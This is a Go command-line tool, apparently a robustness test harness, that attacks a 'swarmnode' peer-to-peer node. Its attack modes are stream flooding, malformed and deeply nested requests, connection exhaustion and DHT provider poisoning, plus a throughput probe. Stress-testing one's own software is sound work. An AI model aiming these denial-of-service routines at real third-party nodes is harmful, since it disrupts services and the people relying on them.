// Command hostile attacks a swarmnode, one way for each mode, until it is ended or its time is over:
//
//	hostile MODE -to ADDRESS -id COLLECTION [-seconds N] [-how WAY]
//
// Modes: serve (says it has everything and answers as WAY says), streams, requests, dials, gossip, providers. probe is no attack: it
// asks for chunks as an honest peer does, at a fixed pace, and prints the bytes per second that it got.
package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"flag"
	"fmt"
	"net"
	"os"
	"os/signal"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/libp2p/go-libp2p"
	dht "github.com/libp2p/go-libp2p-kad-dht"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	ma "github.com/multiformats/go-multiaddr"
	manet "github.com/multiformats/go-multiaddr/net"

	"swarmnode/content"
	"swarmnode/gossip"
	"swarmnode/node"
	"swarmnode/node/p2p"
)

// The protocols of a node, written down again: what an attacker speaks is not what the product thinks it does.
const (
	chunks   protocol.ID = "/swarmnode/1/chunks"
	blocks   protocol.ID = "/swarmnode/1/blocks"
	outline  protocol.ID = "/swarmnode/1/outline"
	holdings protocol.ID = "/swarmnode/1/holdings"
	pull     protocol.ID = "/swarmnode/1/pull"
)

var all = []protocol.ID{chunks, blocks, outline, holdings, pull}

type attack struct {
	to     peer.AddrInfo
	addr   string
	id     content.ID
	how    string
	tables map[uint32]*content.Table
	done   atomic.Int64 // of whatever the mode counts
}

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "hostile:", err)
		os.Exit(1)
	}
}

func run() error {
	if len(os.Args) < 2 {
		return errors.New("which mode?")
	}
	var a attack
	flags := flag.NewFlagSet("hostile", flag.ExitOnError)
	addr := flags.String("to", "", "address of the node, with /p2p/ID")
	id := flags.String("id", "", "collection")
	seconds := flags.Int("seconds", 10, "how long")
	flags.StringVar(&a.how, "how", "wrong", "serve: wrong, truncate, endless, drip, garbage, deny, flip")
	source := flags.String("from", "", "serve: an honest node to learn the sizes of chunks from; default -to")
	flags.Parse(os.Args[2:])
	info, err := peer.AddrInfoFromString(*addr)
	if err != nil {
		return err
	}
	if a.id, err = content.ParseID(*id); err != nil {
		return err
	}
	a.to, a.addr = *info, *addr
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	if mode := os.Args[1]; mode == "serve" || mode == "probe" {
		if *source == "" {
			*source = *addr
		}
		if err := a.learn(ctx, *source); err != nil {
			return err
		}
	}
	ctx, cancel := context.WithTimeout(ctx, time.Duration(*seconds)*time.Second)
	defer cancel()
	modes := map[string]func(context.Context) error{"serve": a.serve, "streams": a.streams, "requests": a.requests, "dials": a.dials,
		"gossip": a.gossip, "providers": a.providers, "probe": a.probe}
	mode := modes[os.Args[1]]
	if mode == nil {
		return fmt.Errorf("no mode %s", os.Args[1])
	}
	err = mode(ctx)
	if os.Args[1] != "probe" {
		fmt.Printf("%s: %d\n", os.Args[1], a.done.Load())
	}
	return err
}

// blockMap are metadata blocks by digest.
type blockMap map[content.Digest][]byte

func (m blockMap) Block(d content.Digest) ([]byte, bool) { b, ok := m[d]; return b, ok }

// learn finds the segment tables as an honest node does.
func (a *attack) learn(ctx context.Context, from string) error {
	info, err := peer.AddrInfoFromString(from)
	if err != nil {
		return err
	}
	client, err := node.OpenClient(ctx, node.ClientConfig{Bootstrap: []string{from}})
	if err != nil {
		return err
	}
	defer client.Close()
	release, err := client.Release(ctx, a.id)
	if err != nil {
		return err
	}
	defer release.Close()
	h, err := p2p.New(ctx, p2p.Config{Client: true}, p2p.Handlers{})
	if err != nil {
		return err
	}
	defer h.Close()
	if _, err := h.Connect(ctx, from); err != nil {
		return err
	}
	have := blockMap{}
	keep := func(d content.Digest, data []byte) error { have[d] = bytes.Clone(data); return nil }
	if err := h.Outline(ctx, gossip.PeerID(info.ID.String()), a.id, release.Head.Manifest, p2p.MaxOutlineBytes, keep); err != nil {
		return err
	}
	infos, err := content.LoadDirectory(release.Manifest.Directory, have)
	if err != nil {
		return err
	}
	a.tables = map[uint32]*content.Table{}
	for i, s := range infos {
		if _, ok := have[s.Table]; !ok {
			if err := h.Blocks(ctx, gossip.PeerID(info.ID.String()), a.id, []content.Digest{s.Table}, keep); err != nil {
				return err
			}
		}
		if a.tables[uint32(i)], err = content.DecodeTable(have[s.Table]); err != nil {
			return err
		}
	}
	return nil
}

// probe asks for a chunk at a time at 2 MiB/s. That is far below what a busy machine can do, so what is missing was taken by the attack.
func (a *attack) probe(ctx context.Context) error {
	const pace = 2 << 20
	h, err := p2p.New(ctx, p2p.Config{Client: true}, p2p.Handlers{})
	if err != nil {
		return err
	}
	defer h.Close()
	if _, err := h.Connect(ctx, a.addr); err == nil {
		fmt.Fprintln(os.Stderr, "ready")
	}
	began, got := time.Now(), 0
	defer func() { fmt.Printf("%.0f\n", float64(got)/time.Since(began).Seconds()) }()
	for segment := uint32(0); ; segment = (segment + 1) % uint32(len(a.tables)) {
		t := a.tables[segment]
		for i := range t.Len() {
			if _, err := h.Connect(ctx, a.addr); err == nil {
				err = h.Chunks(ctx, gossip.PeerID(a.to.ID.String()), a.id, content.Run{Segment: segment, First: uint32(i), Count: 1},
					func(i uint32) uint32 { return t.Chunk(i).Size }, nil, func(_ content.Ref, data []byte) error { got += len(data); return nil })
				if err != nil && ctx.Err() == nil {
					fmt.Fprintln(os.Stderr, err)
				}
			}
			select {
			case <-ctx.Done():
				return nil
			case <-time.After(time.Until(began.Add(time.Duration(float64(got) / pace * float64(time.Second))))):
			}
		}
	}
}

// enemy is a host with a new identity.
func enemy(opts ...libp2p.Option) (host.Host, error) {
	return libp2p.New(append([]libp2p.Option{libp2p.NoListenAddrs, libp2p.DisableMetrics(), libp2p.DisableRelay(),
		libp2p.ResourceManager(&network.NullResourceManager{})}, opts...)...)
}

// again runs an attack with so many identities at a time, each renewed when it is cut off.
func (a *attack) again(ctx context.Context, n int, each func(context.Context, host.Host) error, opts ...libp2p.Option) error {
	var wg sync.WaitGroup
	for range n {
		wg.Go(func() {
			for ctx.Err() == nil {
				h, err := enemy(opts...)
				if err == nil {
					if err = h.Connect(ctx, a.to); err == nil {
						err = each(ctx, h)
					}
					h.Close()
				}
				if err != nil {
					select {
					case <-ctx.Done():
					case <-time.After(100 * time.Millisecond):
					}
				}
			}
		})
	}
	wg.Wait()
	return nil
}

// streams opens streams on every protocol and asks nothing.
func (a *attack) streams(ctx context.Context) error {
	return a.again(ctx, 8, func(ctx context.Context, h host.Host) error {
		for i := 0; ctx.Err() == nil; i++ {
			s, err := h.NewStream(network.WithNoDial(ctx, "attack"), a.to.ID, append(all, "/swarmnode/99/chunks")[i%(len(all)+1)])
			if errors.Is(err, network.ErrNoConn) || h.Network().Connectedness(a.to.ID) != network.Connected {
				return errors.New("cut off")
			}
			if err != nil {
				time.Sleep(time.Millisecond)
				continue
			}
			s.Write(nil) // sends what negotiates the protocol
			a.done.Add(1)
		}
		return nil
	})
}

// requests asks for everything and reads nothing, and sends requests that cannot be read.
func (a *attack) requests(ctx context.Context) error {
	type chunkRequest struct {
		_                     struct{} `cbor:",toarray"`
		Collection            []byte
		Segment, First, Count uint32
	}
	framed := func(b []byte) []byte { return append([]byte{0, 0, byte(len(b) >> 8), byte(len(b))}, b...) }
	return a.again(ctx, 4, func(ctx context.Context, h host.Host) error {
		for i := uint32(0); ctx.Err() == nil; i++ {
			proto := all[i%4]
			body := framed(content.Encode(chunkRequest{Collection: a.id[:], Segment: i % 64, Count: content.MaxSegmentChunks / 2}))
			switch {
			case i%97 == 3:
				body = framed(bytes.Repeat([]byte{0x81}, 100)) // deeply nested
			case i%97 == 50:
				body = []byte{0xff, 0xff, 0xff, 0xff}
			case proto != chunks && i%97 > 20:
				proto = chunks
			}
			s, err := h.NewStream(network.WithNoDial(ctx, "attack"), a.to.ID, proto)
			if err != nil {
				if h.Network().Connectedness(a.to.ID) != network.Connected {
					return errors.New("cut off")
				}
				time.Sleep(time.Millisecond)
				continue
			}
			s.Write(body)
			a.done.Add(1)
		}
		return nil
	})
}

// dials connects to the port and says nothing, 10,000 times; 500 connections stay open.
func (a *attack) dials(ctx context.Context) error {
	addr, err := manet.ToNetAddr(a.to.Addrs[0])
	if err != nil {
		return err
	}
	var open []net.Conn
	defer func() {
		for _, c := range open {
			c.Close()
		}
	}()
	for ctx.Err() == nil && a.done.Load() < 10_000 {
		c, err := (&net.Dialer{}).DialContext(ctx, "tcp", addr.String())
		if err != nil {
			continue
		}
		a.done.Add(1)
		if open = append(open, c); len(open) > 500 {
			open[0].Close()
			open = open[1:]
		}
	}
	<-ctx.Done()
	return nil
}

// providers makes many nodes that do not exist holders of the collection.
func (a *attack) providers(ctx context.Context) error {
	dead, err := ma.NewMultiaddr("/ip4/192.0.2.1/tcp/4101")
	if err != nil {
		return err
	}
	key := content.Digest(sha256.Sum256([]byte("swarmnode-collection:" + a.id.String()))).ChunkCID()
	return a.again(ctx, 2, func(ctx context.Context, h host.Host) error {
		d, err := dht.New(h, dht.ProtocolPrefix("/swarmnode"), dht.Mode(dht.ModeClient), dht.DisableValues())
		if err != nil {
			return err
		}
		defer d.Close()
		for d.RoutingTable().Size() == 0 && ctx.Err() == nil {
			time.Sleep(10 * time.Millisecond)
		}
		if err = d.Provide(ctx, key, true); err == nil {
			a.done.Add(1)
		}
		return err
	}, libp2p.AddrsFactory(func([]ma.Multiaddr) []ma.Multiaddr { return []ma.Multiaddr{dead} }))
}
